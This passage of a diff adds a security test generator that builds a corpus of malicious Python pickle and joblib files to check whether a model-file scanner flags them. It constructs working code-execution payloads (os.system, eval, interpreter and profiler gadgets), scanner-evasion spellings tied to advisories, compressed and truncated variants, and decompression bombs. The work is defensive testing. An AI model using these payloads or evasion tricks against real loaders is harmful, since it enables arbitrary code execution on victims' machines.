+    ("torch_load", "torch", "load", (pk.uni("/tmp/jlp-planted.pt"),), "torch.load of another file"),
+]
+
+for _stem, _mod, _qn, _args, _what in GADGETS:
+    _g = dotted(_mod, _qn) if "." in _qn else pk.glob(_mod, _qn)
+    attack(_stem + ".pkl", "dangerous", "gadget", _what,
+           expect=[] if _mod == "nt" else ["pickle"])(
+        (lambda g, a: lambda: pk.proto(4) + pk.call(g, *a) + pk.STOP)(_g, _args))
+
+
+METHOD_GADGETS = [
+    ("code_interpreter_runsource", "code", "InteractiveInterpreter", (), "runsource", (pk.uni(PY),),
+     "code.InteractiveInterpreter.runsource execs python (a dotted method)"),
+    ("code_console_push", "code", "InteractiveConsole", (), "push", (pk.uni(PY),),
+     "code.InteractiveConsole.push execs python"),
+    ("bdb_run", "bdb", "Bdb", (), "run", (pk.uni(PY),), "bdb.Bdb.run execs python"),
+    ("trace_run", "trace", "Trace", (), "run", (pk.uni(PY),), "trace.Trace.run execs python"),
+    ("cprofile_profile_run", "cProfile", "Profile", (), "run", (pk.uni(PY),), "cProfile.Profile.run execs python"),
+    ("ndarray_tofile", "numpy", "ndarray", None, "tofile", (pk.uni(MARKER),),
+     "numpy's ndarray.tofile writes a file (a dotted method of a safe class)"),
+]
+
+for _stem, _mod, _cls, _cargs, _meth, _args, _what in METHOD_GADGETS:
+    def _mk(mod=_mod, cls=_cls, cargs=_cargs, meth=_meth, args=_args):
+        obj = real_array_u1() if cargs is None else instance(mod, cls, *cargs)
+        return pk.proto(4) + pk.call(dotted(mod, "%s.%s" % (cls, meth)), obj, *args) + pk.STOP
+    attack(_stem + ".pkl", "dangerous", "gadget", _what, expect=["pickle"])(_mk)
+
+
+@attack("pydoc_locate_then_call.pkl", "dangerous", "gadget",
+        "pydoc.locate('os.system') returns the function, which the pickle then calls",
+        expect=["pickle"])
+def _():
+    f = pk.call(pk.glob("pydoc", "locate"), pk.uni("os.system"))
+    return pk.proto(4) + pk.call(f, pk.uni(CMD)) + pk.STOP
+
+
+@attack("dotted_walk_to_system.pkl", "dangerous", "gadget",
+        "STACK_GLOBAL('joblib.numpy_pickle', 'os.system'): a module that imports os, walked "
+        "to the command runner", expect=["pickle"])
+def _():
+    return pk.proto(4) + pk.call(dotted("joblib.numpy_pickle", "os.system"), pk.uni(CMD)) + pk.STOP
+
+
+@attack("dotted_walk_safe_class_globals.pkl", "dangerous", "gadget",
+        "a safe class walked through __init__.__globals__", expect=["pickle"])
+def _():
+    return pk.proto(4) + dotted("sklearn.linear_model._logistic", "LogisticRegression.__init__.__globals__") + pk.STOP
+
+
+@attack("import_getattr_chain.pkl", "dangerous", "gadget",
+        "getattr(__import__('os'), 'system')(cmd)", expect=["pickle"])
+def _():
+    os_mod = pk.call(pk.glob("builtins", "__import__"), pk.uni("os"))
+    f = pk.call(pk.glob("builtins", "getattr"), os_mod, pk.uni("system"))
+    return pk.proto(2) + pk.call(f, pk.uni(CMD)) + pk.STOP
+
+
+@attack("methodcaller_chain.pkl", "dangerous", "gadget",
+        "operator.methodcaller('system', cmd) applied to __import__('os')", expect=["pickle"])
+def _():
+    mc = pk.call(pk.glob("operator", "methodcaller"), pk.uni("system"), pk.uni(CMD))
+    os_mod = pk.call(pk.glob("builtins", "__import__"), pk.uni("os"))
+    return pk.proto(2) + pk.call(mc, os_mod) + pk.STOP
+
+
+@attack("partial_system.pkl", "dangerous", "gadget",
+        "functools.partial(os.system, cmd) called with no arguments", expect=["pickle"])
+def _():
+    p = pk.call(pk.glob("functools", "partial"), pk.glob("os", "system"), pk.uni(CMD))
+    return pk.proto(2) + pk.call(p) + pk.STOP
+
+
+@attack("marshal_function.pkl", "dangerous", "gadget",
+        "marshal.loads of code bytes, made a function by types.FunctionType, called",
+        expect=["pickle"])
+def _():
+    code = pk.call(pk.glob("marshal", "loads"), pk.binbytes(b"\xe3" + b"\x00" * 24))
+    fn = pk.call(pk.glob("types", "FunctionType"), code, pk.EMPTY_DICT)
+    return pk.proto(2) + pk.call(fn) + pk.STOP
+
+
+# the same command runner, spelled the ways scanners missed it
+@attack("spelling_inst_opcode.pkl", "dangerous", "differential", "os.system by INST", expect=["pickle"])
+def _():
+    return pk.MARK + pk.string0(CMD) + pk.inst("os", "system") + pk.STOP
+
+
+@attack("spelling_obj_opcode.pkl", "dangerous", "differential", "os.system by OBJ", expect=["pickle"])
+def _():
+    return pk.proto(1) + pk.MARK + pk.glob("os", "system") + pk.uni(CMD) + pk.OBJ + pk.STOP
+
+
+@attack("spelling_obj_then_pop.pkl", "dangerous", "differential",
+        "os.system by OBJ, its result popped (GHSA-mxhj-88fx-4pcv)", expect=["pickle"])
+def _():
+    return (pk.proto(1) + pk.MARK + pk.glob("os", "system") + pk.uni(CMD) + pk.OBJ + pk.POP
+            + pk.dct((pk.uni("ok"), pk.integer(1))) + pk.STOP)
+
+
+@attack("spelling_stack_global_binstring.pkl", "dangerous", "differential",
+        "STACK_GLOBAL whose operands are py2 str opcodes (GHSA-9gvj-pp9x-gcfr)", expect=["pickle"])
+def _():
+    g = pk.binstring(b"os") + pk.binstring(b"system") + pk.STACK_GLOBAL
+    return pk.proto(4) + pk.call(g, pk.uni(CMD)) + pk.STOP
+
+
+@attack("spelling_unicode_escapes.pkl", "dangerous", "differential",
+        "module and name pushed by UNICODE lines with raw-unicode escapes ('\\u006fs')",
+        expect=["pickle"])
+def _():
+    g = b"V\\u006fs\n" + b"Vs\\u0079stem\n" + pk.STACK_GLOBAL
+    return pk.proto(4) + pk.call(g, pk.uni(CMD)) + pk.STOP
+
+
+@attack("spelling_py2_builtin.pkl", "dangerous", "differential",
+        "'__builtin__ eval' in a protocol 2 stream (Python 3 renames it to builtins.eval)",
+        expect=["pickle"])
+def _():
+    return pk.proto(2) + pk.call(pk.glob("__builtin__", "eval"), pk.uni(PY)) + pk.STOP
+
+
+@attack("spelling_memo_stash.pkl", "dangerous", "differential",
+        "os.system stored in the memo, popped, and called much later", expect=["pickle"])
+def _():
+    return (pk.proto(2) + pk.glob("os", "system") + pk.put(7) + pk.POP
+            + pk.lst(*[pk.integer(i) for i in range(50)]) + pk.POP
+            + pk.call(pk.get(7), pk.uni(CMD)) + pk.STOP)
+
+
+@attack("spelling_text_memo.pkl", "dangerous", "differential",
+        "os.system stored with PUT '010' and fetched with GET '10'", expect=["pickle"])
+def _():
+    return (pk.glob("os", "system") + pk.put_text("010") + pk.POP + pk.MARK
+            + pk.get_text("10") + pk.MARK + pk.string0(CMD) + pk.TUPLE + pk.REDUCE
+            + pk.POP_MARK + pk.NONE + pk.STOP)
+
+
+@attack("spelling_in_dict_key.pkl", "dangerous", "differential",
+        "the call is a dict key inside a nested structure", expect=["pickle"])
+def _():
+    return pk.proto(2) + pk.lst(pk.dct((pk.system(CMD), pk.integer(1)))) + pk.STOP
+
+
+@attack("zlib_joblib_system.joblib", "dangerous", "differential",
+        "a zlib-compressed joblib stream with os.system", expect=["joblib"])
+def _():
+    return zlib.compress(pk.proto(4) + pk.system(CMD) + pk.STOP, 3)
+
+
+for _ext, _comp in [("gzip", lambda d: gzip.compress(d, 3, mtime=0)),
+                    ("bz2", lambda d: bz2.compress(d, 3)),
+                    ("xz", lambda d: lzma.compress(d, format=lzma.FORMAT_XZ)),
+                    ("lzma", lambda d: lzma.compress(d, format=lzma.FORMAT_ALONE))]:
+    attack("%s_joblib_system.joblib" % _ext, "dangerous", "differential",
+           "a %s-compressed joblib stream with os.system" % _ext, expect=["joblib"])(
+        (lambda c: lambda: c(pk.proto(4) + pk.system(CMD) + pk.STOP))(_comp))
+
+
+@attack("lz4_joblib_system.joblib", "dangerous", "differential",
+        "an lz4-compressed joblib stream with os.system", expect=["joblib"])
+def _():
+    import lz4.frame
+    return lz4.frame.compress(pk.proto(4) + pk.system(CMD) + pk.STOP)
+
+
+@attack("second_pickle_after_stop.pkl", "suspicious", "differential",
+        "a harmless pickle, then a second one that calls os.system: loaders read only the "
+        "first, a loop of pickle.load would run the second")
+def _():
+    return pk.proto(2) + pk.NONE + pk.STOP + pk.proto(2) + pk.system(CMD) + pk.STOP
+
+
+# ==== 5. a failed load hides nothing =============================================================
+
+for _stem, _tail, _what in [
+    ("system_then_bad_opcode", b"\xff", "an unknown opcode"),
+    ("system_then_truncated_string", b"X\x64\x00\x00\x00abc", "a string cut short"),
+    ("system_then_eof", b"", "the end of the file without STOP"),
+    ("system_then_bad_utf8", b"\x8c\x02\xff\xfe", "invalid UTF-8"),
+    ("system_then_stack_underflow", b"t", "TUPLE without MARK"),
+    ("system_then_proto6", b"\x80\x06", "an unsupported protocol"),
+    ("system_then_huge_long", b"L" + b"9" * 5000 + b"L\n", "a 5000-digit LONG (int max str digits)"),
+]:
+    attack(_stem + ".pkl", "dangerous", "invalid-tail",
+           "os.system runs, then %s fails the load" % _what, expect=["pickle"])(
+        (lambda t: lambda: pk.proto(2) + pk.system(CMD) + t)(_tail))
+
+
+@attack("ordereddict_build_then_system.pkl", "dangerous", "invalid-tail",
+        "an OrderedDict given instance state by BUILD (Python accepts it) before os.system",
+        expect=["pickle", "pickle-py", "joblib"])
+def _():
+    od = pk.call(pk.glob("collections", "OrderedDict")) + pk.dct((pk.uni("a"), pk.integer(1))) + pk.BUILD
+    return pk.proto(2) + od + pk.POP + pk.system(CMD) + pk.STOP
+
+
+@attack("joblib_pad_32_then_system.joblib", "dangerous", "invalid-tail",
+        "a payload padding of 32 bytes that are not 0xff (joblib skips any padding) "
+        "before os.system", expect=["joblib"])
+def _():
+    head = pk.proto(4) + newobj_wrapper(wrapper_state((8,)))
+    return head + bytes([32]) + b"\x00" * 32 + JUNK8 + pk.system(CMD) + pk.POP + pk.NONE + pk.STOP
+
+
+@attack("gzip_trailer_cut.joblib", "dangerous", "invalid-tail",
+        "a gzip joblib file without its CRC and size trailer: joblib still runs the "
+        "os.system inside", expect=["joblib"])
+def _():
+    return gzip.compress(pk.proto(4) + pk.system(CMD) + pk.STOP, 3, mtime=0)[:-8]
+
+
+@attack("zlib_trailer_cut.joblib", "dangerous", "invalid-tail",
+        "a zlib joblib file without its Adler-32", expect=["joblib"])
+def _():
+    return zlib.compress(pk.proto(4) + pk.system(CMD) + pk.STOP, 3)[:-4]
+
+
+@attack("memo_sparse_then_system.pkl", "dangerous", "invalid-tail",
+        "LONG_BINPUT 0x7fffffff (the C unpickler runs out of memory, pickle.py does not) "
+        "before os.system", expect=["pickle-py", "joblib"])
+def _():
+    return pk.proto(2) + pk.NONE + b"r\xff\xff\xff\x7f" + pk.POP + pk.system(CMD) + pk.STOP
+
+
+# ==== 6. budgets ================================================================================
+
+def _bomb_stream(n):
+    return (pk.proto(4) + b"\x8e" + struct.pack("<Q", n) + b"\x00" * n + pk.POP
+            + pk.system(CMD) + pk.STOP)
+
+
+@attack("bz2_bomb.joblib", "suspicious", "budget",
+        "a bz2 joblib file of a few KB that decodes to 256 MiB before an os.system")
+def _():
+    return bz2.compress(_bomb_stream(256 << 20), 9)
+
+
+@attack("zlib_bomb.joblib", "suspicious", "budget",
+        "a zlib joblib file that decodes to 256 MiB before an os.system")
+def _():
+    return zlib.compress(_bomb_stream(256 << 20), 9)
+
+
+@attack("getdag_40.pkl", "suspicious", "budget",
+        "a 40-level memo DAG (2^40 logical nodes in a few hundred bytes) before os.system",
+        expect=["pickle"])
+def _():
+    out = pk.proto(2) + pk.EMPTY_LIST + pk.put(0)
+    for i in range(40):
+        out += pk.get(i) + pk.get(i) + pk.TUPLE2 + pk.put(i + 1)
+    return out + pk.POP + pk.system(CMD) + pk.STOP
+
+
+@attack("nested_lists_200k.pkl", "suspicious", "budget",
+        "200,000 nested lists before os.system", expect=["pickle"])
+def _():
+    n = 200000
+    return pk.proto(2) + pk.EMPTY_LIST * n + pk.APPEND * (n - 1) + pk.POP + pk.system(CMD) + pk.STOP
+
+
+@attack("marks_1m.pkl", "suspicious", "budget", "a million MARKs before os.system", expect=["pickle"])
+def _():
+    return pk.proto(2) + pk.MARK * 1000000 + pk.system(CMD) + pk.STOP
+
+
+@attack("ops_1m.pkl", "suspicious", "budget",
+        "a million opcodes (NONE, POP) before os.system", expect=["pickle"])
+def _():
+    return pk.proto(2) + (pk.NONE + pk.POP) * 500000 + pk.system(CMD) + pk.STOP
+
+
+# ---- verification and output ---------------------------------------------------------------------
+
+def executed(result, safe, check):
+    """Readings in which Python did something outside the safe list."""
+    out = []
+    if callable(check):
+        return check(result)
+    for reading, r in sorted(result["readings"].items()):
+        if check == "loads":
+            if r["error"] is None:
+                out.append(reading)
+            continue
+        unsafe_call = any(tuple(c[:2]) not in safe for c in r["called"])
+        dunder = any(k[2].startswith("__") and k[2].endswith("__") for k in r["state"])
+        if unsafe_call or dunder or r["effects"]:
+            out.append(reading)
+    return out
+
+
+def main():
+    outdir = sys.argv[1] if len(sys.argv) > 1 else os.path.join(HERE, "attacks")
+    os.makedirs(outdir, exist_ok=True)
+    safe = rules.safe_names()
+    mains = []
+    for a in ATTACKS:
+        files = a["fn"]()
+        if isinstance(files, bytes):
+            files = {os.path.basename(a["name"]): files}
+        base = os.path.join(outdir, os.path.dirname(a["name"]))
+        os.makedirs(base, exist_ok=True)
+        for rel, data in files.items():
+            with open(os.path.join(base, rel), "wb") as f:
+                f.write(data)
+        mains.append(os.path.join(outdir, a["name"]))
+    import pyreadings
+    readings, crashed = pyreadings.run_files(sys.executable, mains, seconds=20, cwd=outdir)
+    crashes = {path: status for path, status, _ in crashed}
+    problems = []
+    lines = []
+    for a, path in zip(ATTACKS, mains):
+        if path in crashes:
+            # Python itself died reading it (a segfault in numpy): it ran the attack
+            ex = ["crash(%d)" % crashes[path]]
+        else:
+            ex = executed({"readings": readings[path]}, safe, a["check"])
+        missing = [r for r in a["expect"] if r not in ex and not ex[:1] == ["crash"]]
+        if path in crashes:
+            missing = [] if a["check"] in ("loads", "crash") else ["(Python crashed)"]
+        if missing:
+            errors = {k: v["error"] for k, v in readings.get(path, {}).items()}
+            problems.append("%s: expected to execute in %s, executes in %s; errors: %s" % (
+                a["name"], ",".join(missing), ",".join(ex) or "none", errors))
+        lines.append("%s\t%s\t%s\t%s\t# %s" % (a["name"], a["verdict"], a["klass"],
+                                               "yes:" + ",".join(ex) if ex else "no", a["note"]))
+    with open(os.path.join(outdir, "MANIFEST"), "w") as f:
+        f.write("# Attack corpus, written by tests/safety/gen_attacks.py; do not edit.\n"
+                "# NAME\tMIN_VERDICT\tCLASS\tEXECUTES (readings in which Python runs it)\t# what\n")
+        f.write("\n".join(lines) + "\n")
+    for p in problems:
+        print("gen_attacks: " + p, file=sys.stderr)
+    print("gen_attacks: %d attacks, %d executed by Python, %d problems" % (
+        len(ATTACKS), sum(1 for line in lines if "\tyes:" in line), len(problems)), file=sys.stderr)
+    sys.exit(1 if problems else 0)
+
+
+if __name__ == "__main__":
+    main()
